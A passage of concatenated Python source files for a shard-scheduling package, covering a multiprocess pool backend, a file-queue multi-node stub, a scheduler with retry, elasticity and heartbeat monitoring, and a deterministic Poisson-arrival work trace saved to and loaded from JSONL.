                for wid, w in self._workers.items() if not w.retiring
            )
            worker = self._workers[idle_first[1]]
            worker.retiring = True
            worker.task_queue.put(None)
        self._target = workers
        self._dispatch()
        return self.workers

    def collect(self, timeout: float = 0.25) -> List[TaskOutcome]:
        outcomes: List[TaskOutcome] = []
        self._dispatch()  # ship anything submitted since the last round
        wait = timeout
        while True:
            try:
                message = (self._results.get(timeout=wait) if wait
                           else self._results.get_nowait())
            except queue.Empty:
                break
            wait = 0  # drain whatever else already arrived, don't re-block
            outcomes.extend(self._handle(message))
        outcomes.extend(self._reap_dead())
        self._dispatch()
        return outcomes

    def heartbeats(self) -> List[Dict]:
        beats, self._heartbeats = self._heartbeats, []
        return beats

    def _handle(self, message) -> List[TaskOutcome]:
        tag, worker_id, batch = message
        if tag == "heartbeat":
            self._heartbeats.append(batch)
            return []
        outcomes: List[TaskOutcome] = []
        worker = self._workers.get(worker_id)
        for kind, index, attempt, payload in batch:
            if worker is not None:
                worker.assigned.pop(index, None)
            task = self._tasks[index]
            if kind == "error":
                outcomes.append(TaskOutcome(
                    task=task, attempt=attempt,
                    worker=f"pool-{worker_id}", error=payload,
                ))
                continue
            store, metrics, events, run_seconds, telemetry = payload
            outcomes.append(TaskOutcome(
                task=task, attempt=attempt, worker=f"pool-{worker_id}",
                store=store, metrics=metrics, events=events,
                run_seconds=run_seconds, telemetry=telemetry,
            ))
        if tag == "exit":
            if worker is not None:
                del self._workers[worker_id]
                worker.proc.join(timeout=5.0)
        return outcomes

    def _reap_dead(self) -> List[TaskOutcome]:
        """Recover a dead worker's tasks: re-dispatch what never started,
        error out what it was executing."""
        outcomes: List[TaskOutcome] = []
        for worker_id in sorted(self._workers):
            worker = self._workers[worker_id]
            if worker.proc.is_alive():
                continue
            proc = worker.proc
            proc.join(timeout=1.0)
            del self._workers[worker_id]
            self.deaths += 1
            # Tasks still unread in the dead worker's pipe never started;
            # pull them back and hand them to a living worker — no retry
            # burned.  Whatever it had actually picked up is lost work.
            recovered: List[Tuple[int, int]] = []
            try:
                while not worker.task_queue.empty():
                    item = worker.task_queue.get()
                    for pair in item or ():
                        worker.assigned.pop(pair[0], None)
                        recovered.append(pair)
            except (OSError, EOFError):
                # The dead worker's pipe end is broken mid-drain; whatever
                # could not be read back errors out below as lost work.
                pass
            self._backlog.extendleft(reversed(recovered))
            for index, attempt in worker.assigned.items():
                outcomes.append(TaskOutcome(
                    task=self._tasks[index], attempt=attempt,
                    worker=f"pool-{worker_id}",
                    error=f"worker {worker_id} died "
                          f"(exitcode {proc.exitcode})",
                ))
            if not worker.retiring:
                self._spawn()  # heal: keep capacity at the requested size
        return outcomes

    def close(self) -> None:
        for worker in self._workers.values():
            if not worker.retiring:
                worker.task_queue.put(None)
        for worker in self._workers.values():
            worker.proc.join(timeout=5.0)
            if worker.proc.is_alive():
                worker.proc.terminate()
                worker.proc.join(timeout=1.0)
        self._workers.clear()
        self._backlog.clear()
        if self._results is not None:
            self._results.close()
            self._results = None


# -- file-queue (multi-node stub) ----------------------------------------------


class QueueBackend(Backend):
    """File-queue execution: the multi-node scale-out seam, stubbed.

    ``submit`` serialises tasks into ``<root>/tasks/``; any number of
    node processes (:func:`repro.sched.node.service_pending`, or
    ``python -m repro.sched.node <root>``) claim task files by atomic
    rename and write result bundles — the shard store as npz plus a JSON
    sidecar of metrics/trace events — into ``<root>/results/``.
    ``collect`` merges whatever bundles have landed.

    As a stub, ``collect`` also services the spool in-process when no
    external node has: the contract (serialise → execute elsewhere →
    merge returned bundles) is exercised end-to-end on one machine.
    """

    name = "queue"

    def __init__(self, root: Optional[Path] = None, service_batch: int = 1,
                 service_inline: bool = True):
        #: Spool directory (None: a private temp dir, removed on close).
        self.root = Path(root) if root is not None else None
        #: Tasks the stub services per ``collect`` (0 = all pending).
        self.service_batch = service_batch
        #: With False the stub never executes; only external nodes do.
        self.service_inline = service_inline
        self._owned = False
        self._seen: set = set()
        self._tasks: Dict[int, ShardTask] = {}
        self._submitted = 0
        #: Heartbeat counters for the inline servicing this backend does;
        #: owning the ledger keeps worker beat sequences monotonic across
        #: ``collect`` calls without module-level state in the node code.
        self._ledger: Any = None

    def open(self, config, want_trace: bool) -> None:
        from repro.sched import node as _node

        if self.root is None:
            self.root = Path(tempfile.mkdtemp(prefix="repro-sched-queue-"))
            self._owned = True
        else:
            self.root = Path(self.root)
        self._ledger = _node.HeartbeatLedger()
        _node.init_spool(self.root, config, want_trace)

    def submit(self, task: ShardTask, attempt: int = 1) -> None:
        from repro.sched import node as _node

        self._tasks[task.index] = task
        _node.enqueue_task(self.root, task, attempt)
        self._submitted += 1

    def collect(self, timeout: float = 0.25) -> List[TaskOutcome]:
        from repro.sched import node as _node

        if self.service_inline:
            _node.service_pending(self.root, limit=self.service_batch or None,
                                  ledger=self._ledger)
        outcomes: List[TaskOutcome] = []
        for index, attempt, payload in _node.read_results(
                self.root, skip=self._seen):
            self._seen.add((index, attempt))
            task = self._tasks.get(index)
            if task is None:
                # A stale bundle from an earlier run against this spool.
                continue
            if payload.get("error"):
                outcomes.append(TaskOutcome(
                    task=task, attempt=attempt,
                    worker=str(payload.get("worker", "node")),
                    error=str(payload["error"]),
                ))
                continue
            outcomes.append(TaskOutcome(
                task=task, attempt=attempt,
                worker=str(payload.get("worker", "node")),
                store=payload["store"], metrics=payload.get("metrics"),
                events=payload.get("events"),
                run_seconds=float(payload.get("run_seconds", 0.0)),
                telemetry=payload.get("telemetry"),
            ))
        return outcomes

    def heartbeats(self) -> List[Dict]:
        from repro.sched import node as _node

        if self.root is None:
            return []
        # Nodes overwrite one heartbeat file per worker; re-reads repeat
        # the latest beat and the scheduler's per-worker dedupe drops it.
        return _node.read_heartbeats(self.root)

    def resize(self, workers: int) -> int:
        from repro.sched import node as _node

        # The stub has no live nodes to scale; record the request so a
        # real node fleet (or an operator) can act on it.
        _node.write_desired_nodes(self.root, max(1, int(workers)))
        return self.workers

    @property
    def workers(self) -> int:
        return 1

    def close(self) -> None:
        if self._owned and self.root is not None:
            shutil.rmtree(self.root, ignore_errors=True)
            self.root = None
            self._owned = False


# -- factory -------------------------------------------------------------------

#: CLI/API backend spellings -> constructor.
BACKEND_NAMES = ("inline", "pool", "queue")


def make_backend(name: str, workers: int = 1,
                 queue_root: Optional[Path] = None) -> Backend:
    """A backend instance from its CLI spelling."""
    if name == "inline":
        return InlineBackend()
    if name == "pool":
        return PoolBackend(workers=workers)
    if name == "queue":
        return QueueBackend(root=queue_root)
    raise ValueError(
        f"unknown backend {name!r} (expected one of {', '.join(BACKEND_NAMES)})"
    )
