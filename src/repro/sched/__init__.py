"""Task-trace shard scheduling with pluggable execution backends.

The generation call path used to hard-wire a ``multiprocessing.Pool``
inside :mod:`repro.workload.shards`.  This package generalises it into
three seams:

* :mod:`repro.sched.trace` — the :class:`WorkTrace`: every shard becomes
  a :class:`ShardTask` with a deterministic, config-seeded exponential
  inter-arrival offset (Poisson arrivals, the load model of the paper's
  fifteen-month farm);
* :mod:`repro.sched.backends` — where tasks run: :class:`InlineBackend`
  (in-process golden path), :class:`PoolBackend` (elastic self-healing
  multiprocess pool), :class:`QueueBackend` (file-queue multi-node stub);
* :mod:`repro.sched.scheduler` — the :class:`Scheduler` policy loop
  (elastic grow/shrink, bounded retry with backoff, straggler re-queue)
  and :func:`generate_scheduled`, the backend-parametrised generation
  entry point.

Scheduling never changes the output: stores are byte-identical across
backends, worker counts and arrival orders (``tests/test_sched.py``).
"""

from repro.sched.backends import (
    BACKEND_NAMES,
    Backend,
    BackendError,
    InlineBackend,
    PoolBackend,
    QueueBackend,
    TaskOutcome,
    make_backend,
)
from repro.sched.dashboard import TopDashboard, WorkerRow
from repro.sched.scheduler import (
    Scheduler,
    SchedulerConfig,
    SchedulerError,
    generate_scheduled,
)
from repro.sched.trace import (
    DEFAULT_ARRIVAL_RATE,
    ShardTask,
    WorkTrace,
    build_trace,
    matches_plan,
)

__all__ = [
    "BACKEND_NAMES",
    "Backend",
    "BackendError",
    "DEFAULT_ARRIVAL_RATE",
    "InlineBackend",
    "PoolBackend",
    "QueueBackend",
    "Scheduler",
    "SchedulerConfig",
    "SchedulerError",
    "ShardTask",
    "TaskOutcome",
    "TopDashboard",
    "WorkTrace",
    "WorkerRow",
    "build_trace",
    "generate_scheduled",
    "make_backend",
    "matches_plan",
]
