"""The shard scheduler: drain a work trace through an execution backend.

The :class:`Scheduler` owns every policy decision the backends do not:

* **feeding** — tasks are submitted in (virtual) arrival order, windowed
  so the backend queue stays short enough to react to;
* **elasticity** — the worker pool grows when the backlog outruns it and
  shrinks when the trace tail no longer needs it;
* **retry** — a task that comes back as an error (worker death, node
  crash) is re-queued with attempt+1 after a backoff measured in collect
  cycles, up to ``max_attempts``;
* **stragglers** — optionally, a task in flight far beyond the median
  completion time is duplicated; the first result wins and late
  duplicates are dropped.

None of this can change the output: every task's payload is a pure
function of (config, shard key) via named rng streams, and the merge in
:func:`generate_scheduled` runs in task-index order.  Scheduling decides
*when and where* work runs — never what it produces.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Deque, Dict, List, Optional, Tuple, Union

from repro.obs import get_metrics, stopwatch
from repro.obs import trace as _trace
from repro.obs.ledger import get_ledger
from repro.sched.backends import Backend, TaskOutcome, make_backend
from repro.sched.trace import (
    ShardTask,
    WorkTrace,
    build_trace,
    matches_plan,
)


class SchedulerError(RuntimeError):
    """The trace could not be drained (exhausted retries or a stall)."""


@dataclass(frozen=True)
class SchedulerConfig:
    """Policy knobs for one scheduler run (all output-neutral)."""

    #: Initial worker-pool size.
    workers: int = 1
    #: Elastic floor/ceiling (``max_workers=0`` pins the pool at
    #: ``workers`` — elasticity off).
    min_workers: int = 1
    max_workers: int = 0
    #: Attempts per task before the run fails (1 = no retry).
    max_attempts: int = 3
    #: Collect cycles to wait before re-queuing attempt ``n`` (doubles
    #: per failed attempt — the bounded backoff).
    retry_backoff_collects: int = 2
    #: Grow when backlog exceeds this multiple of the current pool.
    grow_backlog: float = 2.0
    #: Duplicate a task in flight longer than this multiple of the median
    #: completion time (0 = stragglers off).
    straggler_factor: float = 0.0
    #: Longest single wait for results (seconds, passed to collect()).
    collect_timeout: float = 0.25
    #: In-flight ceiling; 0 derives ``8 * max(workers, max_workers)`` —
    #: enough to keep every pool worker's dispatch pipe full.
    feed_window: int = 0
    #: Abort after this many consecutive empty collects with work
    #: outstanding (a dead backend; ~10 min at the default timeout).
    stall_collects: int = 2400
    #: Surface a worker as stale after this many seconds without a
    #: heartbeat while work is in flight (0 = stale detection off).
    #: This fires long before the stall guard: one silent worker in a
    #: healthy pool never empties ``collect``, so only the heartbeat
    #: channel can name it.
    heartbeat_stale_seconds: float = 30.0

    def resolved_max_workers(self) -> int:
        return self.max_workers if self.max_workers > 0 else self.workers

    def resolved_feed_window(self) -> int:
        if self.feed_window > 0:
            return self.feed_window
        return 8 * max(self.workers, self.resolved_max_workers())


class _HeartbeatMonitor:
    """Parent-side view of worker liveness, fed from backend heartbeats.

    Dedupes on each worker's monotonic ``beat`` counter (spool files and
    re-drained queues may repeat a beat), keeps the freshest payload per
    worker, and tracks silence: a worker unheard from for longer than
    ``stale_after`` while work is in flight is reported exactly once per
    silent episode (a fresh beat re-arms it).  Everything here is
    physical telemetry — counters, trace events and ledger records it
    produces are all declared volatile.
    """

    def __init__(self, stale_after: float):
        self.stale_after = float(stale_after)
        self._seen: Dict[str, int] = {}       # worker -> highest beat
        self._last: Dict[str, object] = {}    # worker -> Stopwatch
        self._latest: Dict[str, Dict] = {}    # worker -> freshest payload
        self._stale: set = set()              # workers already reported

    def observe(self, beats: List[Dict], metrics, ledger) -> None:
        for beat in beats:
            worker = str(beat.get("worker", "?"))
            seq = int(beat.get("beat", 0))
            if seq <= self._seen.get(worker, 0):
                continue  # replayed or stale payload
            self._seen[worker] = seq
            self._last[worker] = stopwatch()
            self._latest[worker] = beat
            self._stale.discard(worker)
            metrics.inc("sched.heartbeat.received")
            rss = beat.get("rss_kb")
            if rss:
                metrics.gauge_max("sched.heartbeat.rss_kb_peak", rss)
            _trace.emit("sched.heartbeat.worker",
                        trace_id=f"sched.worker:{worker}", **beat)
            if ledger is not None:
                ledger.record_heartbeat(beat)

    def newly_stale(self, inflight: int) -> List[str]:
        """Workers crossing the silence threshold since the last check."""
        if self.stale_after <= 0 or inflight <= 0:
            return []
        out = []
        for worker in sorted(self._last):
            if worker in self._stale:
                continue
            if self._last[worker].elapsed() > self.stale_after:
                self._stale.add(worker)
                out.append(worker)
        return out

    def latest(self, worker: str) -> Dict:
        return self._latest.get(worker, {})

    def silent_seconds(self, worker: str) -> float:
        watch = self._last.get(worker)
        return watch.elapsed() if watch is not None else 0.0


class Scheduler:
    """Drains one :class:`WorkTrace` through one :class:`Backend`."""

    def __init__(self, backend: Backend,
                 config: Optional[SchedulerConfig] = None):
        self.backend = backend
        self.config = config or SchedulerConfig()

    def run(self, trace: WorkTrace, scenario_config,
            want_trace: bool = False) -> List[TaskOutcome]:
        """Execute every task; outcomes returned in task-index order.

        Raises :class:`SchedulerError` when a task exhausts its attempts
        or the backend stalls.  The backend is opened and closed here.
        """
        metrics = get_metrics()
        backend = self.backend
        backend.open(scenario_config, want_trace)
        try:
            return self._drain(trace, metrics)
        finally:
            backend.close()

    # -- the drain loop --------------------------------------------------------

    def _drain(self, trace: WorkTrace, metrics) -> List[TaskOutcome]:
        cfg = self.config
        backend = self.backend
        pending: Deque[Tuple[ShardTask, int]] = deque(
            (task, 1) for task in trace.in_arrival_order()
        )
        by_index: Dict[int, ShardTask] = {t.index: t for t in trace.tasks}
        delayed: List[Tuple[int, ShardTask, int]] = []  # (eligible_cycle, ...)
        results: Dict[int, TaskOutcome] = {}
        watches: Dict[int, object] = {}   # index -> Stopwatch since submit
        duplicated: set = set()
        inflight = 0
        cycle = 0
        idle_collects = 0
        n_tasks = len(trace)
        feed_window = cfg.resolved_feed_window()
        max_workers = cfg.resolved_max_workers()
        heartbeats = _HeartbeatMonitor(cfg.heartbeat_stale_seconds)
        ledger = get_ledger()

        while len(results) < n_tasks:
            cycle += 1
            # Retries whose backoff has elapsed rejoin the queue tail.
            if delayed:
                still = []
                for eligible, task, attempt in delayed:
                    if eligible <= cycle:
                        pending.append((task, attempt))
                    else:
                        still.append((eligible, task, attempt))
                delayed = still
            while pending and inflight < feed_window:
                task, attempt = pending.popleft()
                self._submit(task, attempt, metrics, watches)
                inflight += 1

            outcomes = backend.collect(timeout=cfg.collect_timeout)
            # Liveness first, completions second: a stuck worker must be
            # surfaced even on (especially on) rounds that return nothing.
            self._pulse(heartbeats, inflight, metrics, ledger)
            if not outcomes:
                if inflight or delayed or pending:
                    idle_collects += 1
                    if idle_collects >= cfg.stall_collects:
                        raise SchedulerError(
                            f"backend {backend.name!r} stalled with "
                            f"{n_tasks - len(results)} task(s) outstanding"
                        )
                continue
            idle_collects = 0

            for outcome in outcomes:
                inflight -= 1
                index = outcome.task.index
                if index in results:
                    metrics.inc("sched.duplicates_dropped")
                    continue
                if outcome.ok:
                    self._complete(outcome, metrics, watches)
                    results[index] = outcome
                else:
                    delayed = self._retry(outcome, cycle, delayed, metrics)

            inflight += self._requeue_stragglers(
                by_index, results, watches, duplicated, metrics
            )
            outstanding = len(pending) + len(delayed) + inflight
            self._rebalance(outstanding, max_workers, metrics)
            metrics.gauge_max("sched.backlog_peak", outstanding)

        return [results[i] for i in range(n_tasks)]

    # -- steps -----------------------------------------------------------------

    def _pulse(self, heartbeats: _HeartbeatMonitor, inflight: int,
               metrics, ledger) -> None:
        """Fold fresh worker heartbeats in; name workers gone silent."""
        heartbeats.observe(self.backend.heartbeats(), metrics, ledger)
        for worker in heartbeats.newly_stale(inflight):
            beat = heartbeats.latest(worker)
            silent = round(heartbeats.silent_seconds(worker), 3)
            metrics.inc("sched.heartbeat.stale")
            _trace.emit(
                "sched.heartbeat.stale",
                trace_id=f"sched.worker:{worker}", worker=worker,
                silent_seconds=silent, last_index=beat.get("last_index"),
            )
            if ledger is not None:
                ledger.record_alert(
                    "stale-worker",
                    f"worker {worker} silent for {silent:.1f}s "
                    f"(last task {beat.get('last_index')})",
                    worker=worker, silent_seconds=silent,
                )

    def _submit(self, task: ShardTask, attempt: int, metrics,
                watches: Dict) -> None:
        self.backend.submit(task, attempt)
        if task.index not in watches:  # keep the first submission's clock
            watches[task.index] = stopwatch()
        metrics.inc("sched.tasks_submitted")
        _trace.emit(
            "sched.task.submit", trace_id=task.trace_id,
            index=task.index, shard_kind=task.kind, attempt=attempt,
        )

    def _complete(self, outcome: TaskOutcome, metrics,
                  watches: Dict) -> None:
        task = outcome.task
        total = watches[task.index].elapsed()
        queue_seconds = max(0.0, total - outcome.run_seconds)
        metrics.inc("sched.tasks_completed")
        metrics.observe("sched.task_queue_seconds", queue_seconds)
        metrics.observe("sched.task_run_seconds", outcome.run_seconds)
        telemetry = outcome.telemetry
        if telemetry:
            metrics.observe("resource.task_cpu_seconds",
                            telemetry.get("cpu_seconds", 0.0))
            metrics.observe("resource.task_max_rss_kb",
                            telemetry.get("max_rss_kb", 0))
            metrics.observe("resource.task_gc_pause_seconds",
                            telemetry.get("gc_pause_seconds", 0.0))
            metrics.observe("resource.task_gc_collections",
                            telemetry.get("gc_collections", 0))
        ledger = get_ledger()
        if ledger is not None:
            ledger.record_task(
                task, sessions=len(outcome.store), attempt=outcome.attempt,
                worker=outcome.worker, run_seconds=outcome.run_seconds,
                queue_seconds=queue_seconds, telemetry=telemetry,
            )
        _trace.emit(
            "sched.task.done", trace_id=task.trace_id,
            index=task.index, shard_kind=task.kind, attempt=outcome.attempt,
            sessions=len(outcome.store),
        )

    def _retry(self, outcome: TaskOutcome, cycle: int, delayed: List,
               metrics) -> List:
        cfg = self.config
        task, attempt = outcome.task, outcome.attempt
        if attempt >= cfg.max_attempts:
            raise SchedulerError(
                f"task {task.index} ({task.kind}:{task.key}:{task.start}) "
                f"failed {attempt} attempt(s); last error: {outcome.error}"
            )
        backoff = cfg.retry_backoff_collects * (2 ** (attempt - 1))
        metrics.inc("sched.tasks_retried")
        _trace.emit(
            "sched.task.retry", trace_id=task.trace_id,
            index=task.index, attempt=attempt + 1, error=str(outcome.error),
        )
        return delayed + [(cycle + backoff, task, attempt + 1)]

    def _requeue_stragglers(self, by_index: Dict, results: Dict,
                            watches: Dict, duplicated: set, metrics) -> int:
        """Duplicate tasks stuck far beyond the median; returns # added.

        Duplicates race the original attempt; payloads are identical by
        construction, so the first result wins and the loser is dropped by
        the dedupe in :meth:`_drain`.
        """
        cfg = self.config
        if cfg.straggler_factor <= 0 or len(results) < 4:
            return 0
        elapsed = sorted(watches[i].elapsed() for i in results)
        median = elapsed[len(elapsed) // 2]
        threshold = cfg.straggler_factor * max(median, 1e-6)
        added = 0
        for index, watch in watches.items():
            if index in results or index in duplicated:
                continue
            if watch.elapsed() > threshold:
                duplicated.add(index)
                # Same attempt number: this is the same work, raced.
                self.backend.submit(by_index[index], 1)
                metrics.inc("sched.stragglers_requeued")
                metrics.inc("sched.tasks_submitted")
                added += 1
        return added

    def _rebalance(self, outstanding: int, max_workers: int,
                   metrics) -> None:
        """Grow when outstanding work outruns the pool, shrink at the tail.

        ``outstanding`` counts everything not yet completed (queued,
        delayed for retry, in flight) — capacity has to track total work
        remaining, not just the unsubmitted backlog, or a wide feed
        window would hide the queue from the policy.
        """
        backend = self.backend
        if not backend.elastic:
            return
        cfg = self.config
        current = backend.workers
        metrics.gauge_max("sched.workers_peak", current)
        if outstanding > cfg.grow_backlog * current \
                and current < max_workers:
            backend.resize(current + 1)
            metrics.inc("sched.workers_grown")
        elif outstanding < current and current > cfg.min_workers:
            backend.resize(current - 1)
            metrics.inc("sched.workers_shrunk")


# -- scheduled generation ------------------------------------------------------


def generate_scheduled(
    config=None,
    *,
    backend: Union[str, Backend] = "pool",
    workers: int = 1,
    trace_file=None,
    arrival_rate: Optional[float] = None,
    sched: Optional[SchedulerConfig] = None,
    work_trace: Optional[WorkTrace] = None,
):
    """Generate the sharded trace by draining a work trace through a backend.

    The store is byte-identical for every backend, worker count and
    arrival order: shards draw from named rng streams and merge in task
    index order.  ``backend`` is a name (``inline`` / ``pool`` /
    ``queue``) or a :class:`Backend` instance; ``trace_file`` replays an
    existing work-trace JSONL (it must name this plan's shards) or, if
    the path does not exist, records the built trace there.
    """
    from repro.workload.config import ScenarioConfig
    from repro.workload.shards import _plan_for

    config = config or ScenarioConfig()
    workers = max(1, int(workers))
    backend_obj = backend if isinstance(backend, Backend) \
        else make_backend(backend, workers=workers)
    # Default policy: a fixed-size pool (max_workers=0 pins capacity at
    # ``workers``, matching the pre-scheduler pool); elasticity is opt-in
    # through an explicit SchedulerConfig.
    sched_cfg = sched or SchedulerConfig(workers=workers)

    metrics = get_metrics()
    with metrics.span("generate"):
        with metrics.span("plan"):
            plan = _plan_for(config)
        shards = plan.shards
        with metrics.span("sched/trace"):
            trace = _resolve_trace(
                plan, config, trace_file, arrival_rate, work_trace
            )
        metrics.gauge_set("shards.count", len(shards))
        metrics.gauge_set("shards.workers", workers)
        metrics.gauge_set("sched.arrival_rate", trace.lam)
        metrics.gauge_set("sched.trace_makespan_virtual",
                          trace.makespan_virtual)
        # No backend name in the event data: the combined trace must be
        # identical whichever backend (and worker count) executed it.
        _trace.emit("sched.trace.built", tasks=len(trace), lam=trace.lam)
        ledger = get_ledger()
        if ledger is not None:
            ledger.record_sched(
                backend=backend_obj.name, workers=workers,
                tasks=len(trace), lam=trace.lam,
                makespan_virtual=trace.makespan_virtual,
            )
        tracer = _trace.get_tracer()
        want_trace = tracer is not None
        emit_watch = stopwatch()
        with metrics.span("emit"):
            outcomes = Scheduler(backend_obj, sched_cfg).run(
                trace, config, want_trace
            )
        emit_wall = emit_watch.elapsed()
        # Fold worker-side metrics and trace events in task-index order —
        # the same total order for every backend and pool size, which is
        # what keeps the merged registry and trace worker-count-invariant
        # (see workload/shards.py, whose pool this scheduler replaced).
        for outcome in outcomes:
            if outcome.metrics:
                metrics.merge(outcome.metrics, span_prefix="generate/emit")
            if want_trace and outcome.events:
                task = outcome.task
                tracer.fold(outcome.events, shard={
                    "index": task.index, "kind": task.kind, "key": task.key,
                    "start": task.start, "stop": task.stop,
                })
        busy = sum(
            cell["wall"] for path, cell in metrics.spans.items()
            if path.startswith("generate/emit/shard/")
        )
        slots = min(workers, max(len(shards), 1))
        metrics.gauge_set(
            "shards.queue_wait_seconds", max(0.0, emit_wall * slots - busy)
        )
        with metrics.span("merge"):
            # Merge into a rows-free fork so the cached plan stays reusable.
            builder = plan.gen.builder.fork_tables()
            for outcome in outcomes:
                merge_watch = stopwatch()
                builder.adopt_store(outcome.store)
                metrics.observe("sched.task_merge_seconds",
                                merge_watch.elapsed())
            merged = builder.build()
        _trace.emit("generate.merged", shards=len(shards),
                    workers=workers, sessions=len(merged))
    return plan.gen._finalize(merged)


def _resolve_trace(plan, config, trace_file, arrival_rate,
                   work_trace) -> WorkTrace:
    """The trace to drain: given > replayed from file > freshly built."""
    if work_trace is not None:
        trace = work_trace
    elif trace_file is not None and _exists(trace_file):
        trace = WorkTrace.load_jsonl(trace_file)
        if not matches_plan(trace, plan):
            raise ValueError(
                f"{trace_file}: work trace does not match this config's "
                f"shard plan (regenerate it, or drop --trace-file)"
            )
    else:
        trace = build_trace(plan, config, lam=arrival_rate)
        if trace_file is not None:
            trace.save_jsonl(trace_file)
    return trace


def _exists(path) -> bool:
    from pathlib import Path

    return Path(path).exists()
