"""The shard work trace: what the scheduler drains.

A :class:`WorkTrace` turns the shard plan's static enumeration into a
*task trace* in the style of makespan-experiment harnesses: every shard
becomes a :class:`ShardTask` carrying its identity, an estimated cost
(sessions it will emit), and a virtual arrival offset.  Arrival offsets
are exponential inter-arrival draws — Poisson arrivals of rate ``lam`` —
seeded from the scenario config through a named rng stream
(``sched.trace``), so the trace is a pure function of the config.

Arrivals are *virtual*: the scheduler submits tasks in arrival order and
records queueing against them, but never sleeps on the gaps — the trace
models load shape, not wall time.  Because every shard draws from its own
named rng stream and the merge runs in ``index`` order, neither the
arrival order nor the backend that executes a task can change the merged
store (property-tested in ``tests/test_sched.py``).

A trace round-trips through JSONL (``--trace-file``) so a run's task
trace can be inspected, archived, or replayed against a later plan.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import List, Optional, Sequence, Tuple, Union

import numpy as np

from repro.simulation.rng import RngStream

PathLike = Union[str, Path]

#: Default Poisson arrival rate (tasks per virtual second).
DEFAULT_ARRIVAL_RATE = 32.0

#: Bumped only on breaking changes to the JSONL trace format.
TRACE_FORMAT_VERSION = 1


@dataclass(frozen=True)
class ShardTask:
    """One schedulable unit of work: a shard plus trace metadata.

    ``index`` is the shard's position in the plan enumeration — the merge
    order, and therefore the only ordering that affects the output.
    ``est_cost`` is the planned session count (the scheduler's relative
    cost signal); ``arrival`` is the virtual arrival offset in seconds
    since trace start.
    """

    index: int
    kind: str
    key: str
    start: int
    stop: int
    est_cost: float
    arrival: float

    @property
    def trace_id(self) -> str:
        """The stable flight-recorder id shared with the shard's events."""
        return f"sched:{self.kind}:{self.key}:{self.start}"

    def to_dict(self) -> dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, raw: dict) -> "ShardTask":
        return cls(
            index=int(raw["index"]), kind=str(raw["kind"]),
            key=str(raw["key"]), start=int(raw["start"]),
            stop=int(raw["stop"]), est_cost=float(raw["est_cost"]),
            arrival=float(raw["arrival"]),
        )


@dataclass(frozen=True)
class WorkTrace:
    """An immutable task trace: tasks in plan (merge) order, plus its rate.

    ``tasks`` is always ordered by ``index``; :meth:`in_arrival_order`
    gives the submission order.
    """

    tasks: Tuple[ShardTask, ...]
    lam: float
    seed: int

    def __len__(self) -> int:
        return len(self.tasks)

    @property
    def total_cost(self) -> float:
        return float(sum(t.est_cost for t in self.tasks))

    @property
    def makespan_virtual(self) -> float:
        """The last virtual arrival offset (0.0 for an empty trace)."""
        return max((t.arrival for t in self.tasks), default=0.0)

    def in_arrival_order(self) -> List[ShardTask]:
        """Submission order: by arrival, index-tie-broken (deterministic)."""
        return sorted(self.tasks, key=lambda t: (t.arrival, t.index))

    def with_arrival_order(self, order: Sequence[int]) -> "WorkTrace":
        """The same tasks with arrival slots dealt out in ``order``.

        ``order`` is a permutation of task indexes: the first named task
        receives the earliest arrival offset, and so on.  Used by the
        permutation-invariance property tests — reordering arrivals
        reorders execution, never the merged store.
        """
        if sorted(order) != list(range(len(self.tasks))):
            raise ValueError("order must be a permutation of task indexes")
        offsets = sorted(t.arrival for t in self.tasks)
        by_index = {t.index: t for t in self.tasks}
        reassigned = []
        for slot, index in enumerate(order):
            task = by_index[index]
            reassigned.append(ShardTask(
                index=task.index, kind=task.kind, key=task.key,
                start=task.start, stop=task.stop, est_cost=task.est_cost,
                arrival=offsets[slot],
            ))
        reassigned.sort(key=lambda t: t.index)
        return WorkTrace(tasks=tuple(reassigned), lam=self.lam,
                         seed=self.seed)

    # -- persistence ----------------------------------------------------------

    def save_jsonl(self, path: PathLike) -> None:
        """Write the trace as JSONL: one header line, one line per task."""
        header = {
            "version": TRACE_FORMAT_VERSION, "lam": self.lam,
            "seed": self.seed, "n_tasks": len(self.tasks),
        }
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(json.dumps(header, sort_keys=True) + "\n")
            for task in self.tasks:
                fh.write(json.dumps(task.to_dict(), sort_keys=True) + "\n")

    @classmethod
    def load_jsonl(cls, path: PathLike) -> "WorkTrace":
        """Load a trace written by :meth:`save_jsonl` (validated)."""
        with open(path, "r", encoding="utf-8") as fh:
            lines = [line for line in (raw.strip() for raw in fh) if line]
        if not lines:
            raise ValueError(f"{path}: empty work-trace file")
        header = json.loads(lines[0])
        if header.get("version") != TRACE_FORMAT_VERSION:
            raise ValueError(
                f"{path}: unsupported trace version {header.get('version')!r}"
            )
        tasks = sorted(
            (ShardTask.from_dict(json.loads(line)) for line in lines[1:]),
            key=lambda t: t.index,
        )
        if header.get("n_tasks") != len(tasks):
            raise ValueError(
                f"{path}: header says {header.get('n_tasks')} tasks, "
                f"found {len(tasks)}"
            )
        if [t.index for t in tasks] != list(range(len(tasks))):
            raise ValueError(f"{path}: task indexes are not 0..n-1")
        return cls(tasks=tuple(tasks), lam=float(header.get("lam", 0.0)),
                   seed=int(header.get("seed", 0)))


def build_trace(plan, config, lam: Optional[float] = None) -> WorkTrace:
    """The deterministic work trace for a shard plan.

    ``plan`` is a :class:`repro.workload.shards.ShardPlan`.  Inter-arrival
    gaps are exponential draws of mean ``1/lam`` from the named stream
    ``sched.trace`` under the config seed — same config, same trace, on
    every host and for every backend.  The first task arrives at 0.
    """
    lam = float(lam) if lam else DEFAULT_ARRIVAL_RATE
    if lam <= 0:
        raise ValueError("arrival rate lam must be positive")
    shards = plan.shards
    rng = RngStream(config.seed, "sched.trace")
    gaps = rng.exponential_array(1.0 / lam, len(shards)) \
        if shards else np.zeros(0)
    if len(gaps):
        gaps[0] = 0.0
    arrivals = np.cumsum(gaps)
    tasks = tuple(
        ShardTask(
            index=i, kind=shard.kind, key=shard.key, start=shard.start,
            stop=shard.stop, est_cost=float(plan.shard_cost(shard)),
            arrival=float(arrivals[i]),
        )
        for i, shard in enumerate(shards)
    )
    return WorkTrace(tasks=tasks, lam=lam, seed=config.seed)


def matches_plan(trace: WorkTrace, plan) -> bool:
    """True when ``trace`` names exactly the plan's shards, in plan order."""
    if len(trace.tasks) != len(plan.shards):
        return False
    for task, shard in zip(trace.tasks, plan.shards):
        if (task.kind, task.key, task.start, task.stop) != \
                (shard.kind, shard.key, shard.start, shard.stop):
            return False
    return True
