"""``repro top``: the scheduler-side terminal dashboard.

